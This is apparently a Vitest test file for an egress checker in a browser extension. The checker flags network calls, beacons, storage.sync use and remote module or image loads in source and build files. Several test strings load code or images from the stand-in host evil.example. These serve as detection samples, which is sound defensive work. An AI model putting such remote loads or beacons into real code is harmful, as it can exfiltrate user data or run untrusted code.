import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import { checkBuild, checkSources, waysOut, waysOutOfMarkup } from '../../tools/check-egress';

const of = (code: string, file = 'a.ts') => waysOut(code, file).map((found) => found.what);

describe('a way out of the device', () => {
  test.each([
    ['fetch("/x")', 'fetch'],
    ['globalThis.fetch("/x")', 'fetch'],
    ["self['fetch']('/x')", 'fetch'],
    ['const { fetch: away } = globalThis', 'fetch'],
    ['const { fetch } = globalThis', 'fetch'],
    ['const send = { fetch }', 'fetch'],
    ['new XMLHttpRequest()', 'XMLHttpRequest'],
    ['new WebSocket(url)', 'WebSocket'],
    ['new window.EventSource(url)', 'EventSource'],
    ['navigator.sendBeacon("/x")', 'sendBeacon'],
    ["navigator['sendBeacon']('/x')", 'sendBeacon'],
    ['browser.storage.sync.set({})', 'storage.sync'],
    ["chrome.storage['sync'].get()", 'storage.sync'],
    ["chrome['storage']['sync'].get()", 'storage.sync'],
    ['const { sync } = browser.storage', 'storage.sync'],
    ['const { sync: away } = browser.storage', 'storage.sync'],
    ["import('https://evil.example/x.js')", 'import() of a remote module'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the sample is code.
    ['import(`https://evil.example/${x}`)', 'import() of a remote module'],
    ["import 'https://evil.example/x.js'", 'import of a remote module'],
    ["export * from '//evil.example/x.js'", 'import of a remote module'],
    ["new Image().src = 'http://evil.example/'", 'new Image'],
    ["picture.src = 'https://evil.example/p.gif'", 'a remote src'],
    ["new Worker('https://evil.example/w.js')", 'a remote worker'],
    ['new RTCPeerConnection()', 'RTCPeerConnection'],
    ['browser.runtime.setUninstallURL(url)', 'setUninstallURL'],
  ])('%s', (code, what) => {
    expect(of(code)).toContain(what);
    expect(of(code, 'a.js')).toContain(what);
  });

  test('stands in JSX', () => {
    expect(of('const a = <img src="https://evil.example/p.gif" />', 'a.tsx')).toEqual(['a remote src']);
    expect(of('const a = <a href="/x" ping={to}>x</a>', 'a.tsx')).toEqual(['ping']);
  });

  test('is named with its line', () => {
    expect(waysOut('// one\nlet a = 1;\nfetch(a)', 'a.ts')).toEqual([{ line: 3, what: 'fetch' }]);
  });

  test('stands in markup', () => {
    expect(waysOutOfMarkup('<p>\n<script src="https://evil.example/x.js"></script>')).toMatchObject([{ line: 2 }]);
    expect(waysOutOfMarkup('<script src="./main.js"></script><a href="https://cloudopt.net">x</a>')).toEqual([]);
  });
});

describe('no way out', () => {
  test.each([
    '// fetch(url)',
    '/** navigator.sendBeacon */',
    "const prose = 'we never fetch, nor use a WebSocket or storage.sync';",
    'interface EventSource { addListener(): void } let a: EventSource | undefined;',
    "import { type EventSource, Forwarder } from './forwarder';",
    "import type { WebSocket } from 'ws';",
    'const metadata = { storage: { sync: {} }, fetch: 1 };',
    "import('./page.js')",
    'declare function fetch(): void;',
    'storage.local.get(key); clock.sync()',
    "picture.src = '/icon/16.png'",
  ])('%s', (code) => {
    expect(of(code)).toEqual([]);
  });
});

describe('the check', () => {
  let root = '';
  const put = (file: string, text: string) => {
    mkdirSync(join(root, file, '..'), { recursive: true });
    writeFileSync(join(root, file), text);
  };
  afterEach(() => rmSync(root, { recursive: true, force: true }));

  test('reads every source outside utils/egress', () => {
    root = mkdtempSync(join(tmpdir(), 'egress-'));
    put('utils/egress/door.ts', 'fetch(a)');
    put('utils/grants/book.ts', 'export const a = 1;');
    expect(checkSources(root)).toEqual({ files: 1, found: [] });
    put('components/a.tsx', 'fetch(a)');
    put('entrypoints/options/main.tsx', 'new WebSocket(a)');
    put('public/away.js', 'navigator.sendBeacon(a)');
    expect(checkSources(root).found.map((one) => one.what)).toEqual(['WebSocket', 'fetch', 'sendBeacon']);
  });

  test('reads a build', () => {
    root = mkdtempSync(join(tmpdir(), 'egress-'));
    put('background.js', 'var t=1;(()=>{globalThis.fetch(t)})()');
    expect(checkBuild(root)).toEqual({ files: 1, found: [] });
    put('background.js', 'var t=1;(()=>{globalThis.fetch(t)})();fetch(2)');
    put('chunks/popup.js', 'fetch(3)');
    put('popup.html', '<img src=https://evil.example/p.gif>');
    expect(checkBuild(root)).toMatchObject({ files: 3, found: [{ what: 'fetch' }, { what: 'fetch' }, { line: 1 }] });
    put('background.js', 'var a=()=>b.storage.sync;fetch(a)');
    put('chunks/popup.js', 'b.storage.sync.set(3)');
    expect(checkBuild(root).found.map((one) => one.what)).toEqual(['storage.sync', 'a remote resource in markup']);
    put('background.js', 'b.storage.sync.get(1);b.storage.sync.set(2)');
    put('chunks/popup.js', '');
    expect(checkBuild(root).found.map((one) => one.what)).toEqual(['storage.sync', 'a remote resource in markup']);
  });

  test('lets a build’s background read the package itself, and nothing else do so', () => {
    root = mkdtempSync(join(tmpdir(), 'egress-'));
    put('background.js', 'async function f(p){return(await fetch(b.default.runtime.getURL(p))).json()}');
    expect(checkBuild(root).found).toEqual([]);
    for (const away of [
      'fetch(p)',
      'fetch(b.runtime.getURL(p), init)',
      'fetch(b.runtime.getURL(p) + q)',
      'fetch(other.getURL(p))',
      'globalThis.fetch(b.runtime.getURL(p))',
      'const f = fetch; f(b.runtime.getURL(p))',
    ]) {
      put('background.js', `globalThis.fetch(t);\n${away}`);
      expect(checkBuild(root).found, away).toHaveLength(1);
    }
    put('background.js', '');
    put('popup.js', 'fetch(b.runtime.getURL(p))');
    expect(checkBuild(root).found).toHaveLength(1);
    put('utils/grants/book.ts', 'fetch(browser.runtime.getURL(p))');
    expect(checkSources(root).found).toHaveLength(1);
  });

  test('finds nothing in our own sources', () => {
    const { files, found } = checkSources('.');
    expect(files).toBeGreaterThan(50);
    expect(found).toEqual([]);
  });
});
